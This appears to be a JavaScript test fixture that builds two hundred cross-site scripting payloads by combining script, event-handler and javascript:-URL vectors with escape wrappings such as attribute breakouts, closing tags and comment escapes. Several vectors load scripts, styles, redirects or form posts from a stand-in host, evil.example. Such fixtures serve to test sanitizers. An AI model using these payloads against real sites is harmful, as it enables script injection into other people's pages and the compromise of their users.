// Two hundred texts that are scripts wherever somebody takes text for markup: each way to run something, in each way to
// get out of where a text stands.
'use strict';

const RUN = "alert('xss');window.noteWrong('ran')";
const AWAY = '//evil.example/x';

const VECTORS = [
  `<script>${RUN}</script>`,
  `<script src=${AWAY}></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="http:${AWAY}">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="http:${AWAY}">`,
  `<a href="javascript:${RUN}">press</a>`,
  `<details open ontoggle="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}">`,
  `<body onload="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<marquee onstart="${RUN}">`,
  `<link rel=stylesheet href="http:${AWAY}">`,
  `<style>@import 'http:${AWAY}';</style>`,
  `<meta http-equiv=refresh content="0;url=http:${AWAY}">`,
  `<base href="http:${AWAY}">`,
  `<form action="http:${AWAY}"><button autofocus>press</button></form>`,
  `<math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
  `javascript:${RUN}`,
];
const WRAPPINGS = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `</textarea></title></style></script>${vector}`,
  (vector) => `-->${vector}<!--`,
  (vector) => `\`\${${vector}}\``,
  (vector) => `{{${vector}}} \\u003c ${encodeURIComponent(vector)}`,
  (vector) => `<noscript><p title="</noscript>${vector}">\u202e`,
];

const PAYLOADS = WRAPPINGS.flatMap((wrap) => VECTORS.map(wrap));

module.exports = { PAYLOADS };
